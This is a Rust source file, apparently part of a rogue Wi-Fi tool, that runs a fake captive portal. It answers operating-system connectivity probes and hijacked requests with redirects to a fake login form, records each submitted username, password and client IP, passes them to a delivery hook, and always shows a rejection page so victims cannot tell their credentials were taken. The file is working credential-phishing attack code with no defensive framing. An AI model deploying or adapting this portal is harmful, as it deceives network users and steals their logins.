use std::{net::SocketAddr, sync::Arc, time::Instant};

use anyhow::{Context, Result};
use axum::{
    extract::{rejection::FormRejection, ConnectInfo, Form, State},
    http::{header, HeaderMap, Method, StatusCode, Uri},
    response::{Html, IntoResponse, Response},
    routing::get,
    Router,
};
use serde::Deserialize;
use tower::limit::ConcurrencyLimitLayer;
use tower::ServiceBuilder;
use tower_http::limit::RequestBodyLimitLayer;
use tower_http::timeout::TimeoutLayer;

use netlure_capture::{CapturedCredential, CredentialStore, FlushTrigger};

use crate::config::PortalConfig;
use crate::logging::{format_credential_line, format_request_line, CaptureLog};
use crate::pages::{external_redirect_page, probe_redirect_page, DENIED_PAGE, LOGIN_PAGE};

/// Paths client operating systems poll to decide whether the network has
/// internet access. These get the redirect-with-fallback answer; probes
/// that expect a plain page (`/fwlink`, `/hotspot-detect.html`) are
/// served the form directly instead.
pub const PROBE_PATHS: [&str; 6] = [
    "/generate_204",
    "/gen_204",
    "/ncsi.txt",
    "/success.txt",
    "/connectivity-check.html",
    "/check_network_status.txt",
];

const FORM_PATHS: [&str; 2] = ["/fwlink", "/hotspot-detect.html"];

/// Called with the trigger an insertion raised. Must not block; the
/// controller decides when the actual delivery pass runs.
pub type TriggerHook = Arc<dyn Fn(FlushTrigger) + Send + Sync>;

#[derive(Clone)]
pub struct PortalContext {
    store: Arc<CredentialStore>,
    log: CaptureLog,
    notify: TriggerHook,
    /// Host value requests must carry to count as addressed to us.
    portal_host: Arc<String>,
    /// Absolute URL of the portal root, the target of every redirect.
    portal_root: Arc<String>,
    probe_body: Arc<String>,
    external_body: Arc<String>,
    /// Capture timestamps are milliseconds since this instant.
    epoch: Instant,
}

impl PortalContext {
    pub fn new(
        cfg: &PortalConfig,
        store: Arc<CredentialStore>,
        log: CaptureLog,
        notify: TriggerHook,
        epoch: Instant,
    ) -> Self {
        let portal_host = cfg.listen_ip.to_string();
        let portal_root = format!("http://{portal_host}/");
        Self {
            store,
            log,
            notify,
            probe_body: Arc::new(probe_redirect_page(&portal_root)),
            external_body: Arc::new(external_redirect_page(&portal_root)),
            portal_host: Arc::new(portal_host),
            portal_root: Arc::new(portal_root),
            epoch,
        }
    }
}

#[derive(Deserialize, Default)]
struct LoginForm {
    username: Option<String>,
    password: Option<String>,
}

pub fn build_router(cfg: &PortalConfig, ctx: PortalContext) -> Router {
    let middleware = ServiceBuilder::new()
        .layer(RequestBodyLimitLayer::new(cfg.max_body_bytes))
        .layer(TimeoutLayer::new(cfg.request_timeout))
        .layer(ConcurrencyLimitLayer::new(cfg.max_concurrency));

    let mut router = Router::new()
        .route("/", get(show_login).fallback(fallback_capture))
        .route(
            "/login",
            get(show_login).post(capture).fallback(fallback_capture),
        );

    for path in FORM_PATHS {
        router = router.route(path, get(show_login).fallback(fallback_capture));
    }
    for path in PROBE_PATHS {
        router = router.route(path, get(probe_answer).fallback(fallback_capture));
    }

    router
        .fallback(fallback_capture)
        .with_state(ctx)
        .layer(middleware)
}

pub async fn run_server(
    listener: std::net::TcpListener,
    app: Router,
    shutdown: tokio::sync::oneshot::Receiver<()>,
) -> Result<()> {
    let listener = tokio::net::TcpListener::from_std(listener)
        .context("converting portal listener to tokio listener")?;

    axum::serve(
        listener,
        app.into_make_service_with_connect_info::<SocketAddr>(),
    )
    .with_graceful_shutdown(async {
        let _ = shutdown.await;
    })
    .await
    .context("running portal server")?;

    Ok(())
}

async fn show_login(
    State(ctx): State<PortalContext>,
    method: Method,
    headers: HeaderMap,
    uri: Uri,
    ConnectInfo(addr): ConnectInfo<SocketAddr>,
) -> Html<&'static str> {
    log_request(&ctx, &method, &headers, &uri, addr).await;
    Html(LOGIN_PAGE)
}

/// Accepts a submission, stores it, and reports failure to the client.
/// The failure page is deliberate misdirection: acceptance is never
/// granted, so the target cannot distinguish capture from a real
/// rejected login. A body that does not decode as a form (wrong
/// Content-Type, garbage bytes) is captured with empty fields instead
/// of being bounced before the handler runs.
async fn capture(
    State(ctx): State<PortalContext>,
    headers: HeaderMap,
    uri: Uri,
    ConnectInfo(addr): ConnectInfo<SocketAddr>,
    payload: Result<Form<LoginForm>, FormRejection>,
) -> Html<&'static str> {
    log_request(&ctx, &Method::POST, &headers, &uri, addr).await;

    let Form(payload) = payload.unwrap_or_else(|rejection| {
        tracing::debug!("submission body not form-decodable: {rejection}");
        Form(LoginForm::default())
    });
    let ip = addr.ip().to_string();
    let username = payload.username.unwrap_or_default();
    let password = payload.password.unwrap_or_default();

    let line = format_credential_line(&ip, &username, &password);
    if let Err(err) = ctx.log.log_credential_line(&line).await {
        tracing::warn!("credential log write failed: {err}");
    }

    let elapsed_ms = ctx.epoch.elapsed().as_millis() as u64;
    let record = CapturedCredential::new(username, password, ip, elapsed_ms);
    let trigger = ctx.store.insert(record);
    tracing::info!("credential captured, {} stored", ctx.store.len());

    if let Some(trigger) = trigger {
        (ctx.notify)(trigger);
    }

    Html(DENIED_PAGE)
}

/// Connectivity probes are answered with a redirect to the portal root
/// plus a body that redirects on its own for probes that inspect
/// content rather than headers.
async fn probe_answer(
    State(ctx): State<PortalContext>,
    method: Method,
    headers: HeaderMap,
    uri: Uri,
    ConnectInfo(addr): ConnectInfo<SocketAddr>,
) -> impl IntoResponse {
    log_request(&ctx, &method, &headers, &uri, addr).await;
    tracing::debug!("connectivity probe {} answered with redirect", uri.path());

    (
        StatusCode::FOUND,
        [(header::LOCATION, ctx.portal_root.as_str().to_string())],
        Html(ctx.probe_body.as_str().to_string()),
    )
}

/// Everything without an explicit route. A request addressed to a
/// foreign host leaked through name hijacking and is forced back to the
/// portal with caching disabled so the browser does not memorize the
/// wrong answer for the real site. A request addressed to us with an
/// unknown path just gets the form.
async fn fallback_capture(
    State(ctx): State<PortalContext>,
    method: Method,
    headers: HeaderMap,
    uri: Uri,
    ConnectInfo(addr): ConnectInfo<SocketAddr>,
) -> Response {
    log_request(&ctx, &method, &headers, &uri, addr).await;

    let host = header_str(&headers, header::HOST);
    if host_matches(host, &ctx.portal_host) {
        return Html(LOGIN_PAGE).into_response();
    }

    tracing::debug!(
        "redirecting external request for {:?} back to the portal",
        host.unwrap_or("")
    );

    (
        StatusCode::FOUND,
        [
            (header::LOCATION, ctx.portal_root.as_str().to_string()),
            (
                header::CACHE_CONTROL,
                "no-cache, no-store, must-revalidate".to_string(),
            ),
            (header::PRAGMA, "no-cache".to_string()),
            (header::EXPIRES, "-1".to_string()),
        ],
        Html(ctx.external_body.as_str().to_string()),
    )
        .into_response()
}

/// A request counts as addressed to the portal only when its Host header
/// names the portal address, with or without a port. A missing or empty
/// host gets the external treatment like any other mismatch.
fn host_matches(host: Option<&str>, portal_host: &str) -> bool {
    let Some(value) = host else {
        return false;
    };
    let value = value.trim();
    if value.is_empty() {
        return false;
    }
    let without_port = value.rsplit_once(':').map_or(value, |(head, tail)| {
        if tail.chars().all(|c| c.is_ascii_digit()) {
            head
        } else {
            value
        }
    });
    without_port == portal_host
}

async fn log_request(
    ctx: &PortalContext,
    method: &Method,
    headers: &HeaderMap,
    uri: &Uri,
    addr: SocketAddr,
) {
    let ip = addr.ip().to_string();
    let host = header_str(headers, header::HOST).unwrap_or("");
    let line = format_request_line(&ip, method.as_str(), &uri.to_string(), host);
    if let Err(err) = ctx.log.log_request_line(&line).await {
        tracing::warn!("request log write failed: {err}");
    }
}

fn header_str(headers: &HeaderMap, name: header::HeaderName) -> Option<&str> {
    headers.get(name).and_then(|value| value.to_str().ok())
}
